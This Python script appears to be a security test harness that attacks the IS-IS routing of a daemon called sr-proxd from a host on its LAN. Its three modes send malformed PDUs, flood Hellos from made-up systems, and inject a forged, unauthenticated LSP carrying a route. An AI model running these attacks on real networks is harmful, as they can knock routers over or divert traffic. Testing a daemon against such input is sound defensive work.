#!/usr/bin/python3
"""Attacks on sr-proxd's IS-IS from a host on its LAN (run inside a network
namespace with an interface on that LAN). AF_PACKET frames, 802.3 + LLC.

  isis_attack.py garbage IFACE COUNT      malformed PDUs of every kind
  isis_attack.py hellos IFACE AREA COUNT  level-2 LAN Hellos from COUNT made-up systems
  isis_attack.py lsp IFACE AREA           an unauthenticated LSP of a made-up router

Prints what it sent; exits 0 unless the attack could not be carried out.
"""
import random
import socket
import struct
import sys

ALL_L2_ISS = bytes.fromhex("0180c2000015")


def frame(src, pdu, dst=ALL_L2_ISS):
    body = b"\xfe\xfe\x03" + pdu
    f = dst + src + struct.pack("!H", len(body)) + body
    return f + b"\0" * max(0, 60 - len(f))


def tlv(t, v):
    return bytes([t, len(v)]) + v


def header(kind, length_indicator):
    return bytes([0x83, length_indicator, 1, 0, kind, 1, 0, 0])


def lan_hello(system, area):
    tlvs = tlv(1, bytes([len(area)]) + area) + tlv(129, b"\xcc")
    body = bytes([2]) + system + struct.pack("!HH", 30, 27 + len(tlvs)) + bytes([64]) + system + b"\x01"
    return header(16, 27) + body + tlvs


def fletcher(data, at):
    c0 = c1 = 0
    for i, b in enumerate(data):
        b = 0 if i in (at, at + 1) else b
        c0 = (c0 + b) % 255
        c1 = (c1 + c0) % 255
    x = ((len(data) - at - 1) * c0 - c1) % 255 or 255
    y = (510 - c0 - x) % 255 or 255
    return bytes([x, y])


def lsp(system, area):
    tlvs = tlv(1, bytes([len(area)]) + area) + tlv(137, b"forged") + tlv(135, struct.pack("!IB", 10, 24) + bytes([203, 0, 113]))
    pdu = bytearray(header(20, 27) + struct.pack("!HH", 27 + len(tlvs), 1200) + system + b"\0\0" + struct.pack("!I", 1) +
                    b"\0\0\x03" + tlvs)
    pdu[24:26] = fletcher(bytes(pdu[12:]), 12)
    return bytes(pdu)


def sock(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return s, s.getsockname()[4]


def garbage(iface, count):
    s, mac = sock(iface)
    rng = random.Random(12)
    good = lan_hello(b"\x00\x00\x00\x00\x66\x01", b"\x49\x00\x01")
    kinds = [
        lambda: b"",
        lambda: good[:7],                                   # shorter than the common header
        lambda: b"\x82" + good[1:],                         # not IS-IS
        lambda: good[:1] + b"\x1b\x01\x04" + good[4:],      # a system id length of 4
        lambda: good[:4] + b"\x1f" + good[5:],              # PDU type 31
        lambda: good[:17] + b"\xff\xff" + good[19:],        # a PDU length past the frame
        lambda: good[:17] + b"\x00\x05" + good[19:],        # a PDU length inside the header
        lambda: good + b"\x16\xff",                         # a TLV past the end
        lambda: good[:27] + tlv(135, b"\x00\x00\x00\x0a\x3f"),  # a /63 IPv4 prefix
        lambda: good[:27] + tlv(240, b"\x07"),              # an unknown three-way state
        lambda: bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 1400))),
    ]
    for i in range(count):
        s.send(frame(mac, kinds[i % len(kinds)]()))
    print("sent %d malformed PDUs" % count)


def hellos(iface, area, count):
    s, _ = sock(iface)
    for i in range(count):
        system = b"\x02\x66" + struct.pack("!I", i + 1)
        s.send(frame(system, lan_hello(system, area)))  # each from its own MAC too
    print("sent Hellos from %d systems" % count)


def forged_lsp(iface, area):
    s, mac = sock(iface)
    s.send(frame(mac, lsp(b"\x00\x00\x00\x00\x66\x66", area)))
    print("sent an unauthenticated LSP of 0000.0000.6666")


def main():
    mode, iface = sys.argv[1], sys.argv[2]
    if mode == "garbage":
        garbage(iface, int(sys.argv[3]))
    elif mode == "hellos":
        hellos(iface, bytes.fromhex(sys.argv[3]), int(sys.argv[4]))
    elif mode == "lsp":
        forged_lsp(iface, bytes.fromhex(sys.argv[3]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
